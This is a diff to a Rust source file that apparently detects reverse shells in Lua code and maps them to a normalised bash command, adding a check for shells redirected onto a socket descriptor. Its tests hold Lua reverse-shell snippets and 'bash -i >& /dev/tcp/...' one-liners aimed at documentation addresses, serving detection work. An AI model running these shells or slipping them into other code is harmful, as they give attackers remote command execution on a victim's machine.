@@ -153,7 +153,9 @@ fn reverse_shell(code: &str) -> Option<String> {
         })?;
     let args = split_top(code.get(at..)?.split_once(')')?.0);
     let host = args.first().and_then(|h| literal(h))?;
-    let port = args.get(1).map(|p| p.trim().to_string())?;
+    let port = args
+        .get(1)
+        .map(|p| literal(p).unwrap_or(p.trim()).to_string())?;
     let runs_received = code.contains(":receive(")
         && ["io.popen(", "os.execute("].iter().any(|sink| {
             code.match_indices(sink).any(|(k, _)| {
@@ -161,7 +163,14 @@ fn reverse_shell(code: &str) -> Option<String> {
                 !rest.trim_start().starts_with(['"', '\''])
             })
         });
-    runs_received.then(|| format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"))
+    // or a shell whose streams are the socket's descriptor: `os.execute('/bin/sh -i <&3 >&3')`
+    let fd_shell = ["os.execute(", "io.popen("].iter().any(|sink| {
+        code.match_indices(sink).any(|(k, _)| {
+            let arg = code[k + sink.len()..].split(')').next().unwrap_or("");
+            (arg.contains("<&") || arg.contains(">&")) && SHELLS.iter().any(|sh| arg.contains(sh))
+        })
+    });
+    (runs_received || fd_shell).then(|| format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"))
 }
 
 /// `while true do … end` / `repeat … until false` without `break`, growing a table or a
@@ -475,6 +484,13 @@ mod tests {
     fn lua_reverse_shells_and_loops() {
         let rs = "local s=require(\"socket\");local t=s.tcp();t:connect(\"192.0.2.9\",4444);while true do local c=t:receive();local f=io.popen(c);t:send(f:read(\"*a\"));f:close() end";
         assert!(lua_commands(rs).contains(&"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1".to_string()));
+        let fd =
+            "t=socket.tcp();t:connect('192.0.2.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3')";
+        assert!(
+            lua_commands(fd).contains(&"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1".to_string()),
+            "{:?}",
+            lua_commands(fd)
+        );
         let client = "local t=require(\"socket\").tcp(); t:connect(\"localhost\", 80); t:send(\"GET /\\n\"); print(t:receive())";
         assert!(lua_commands(client).is_empty());
         for code in [
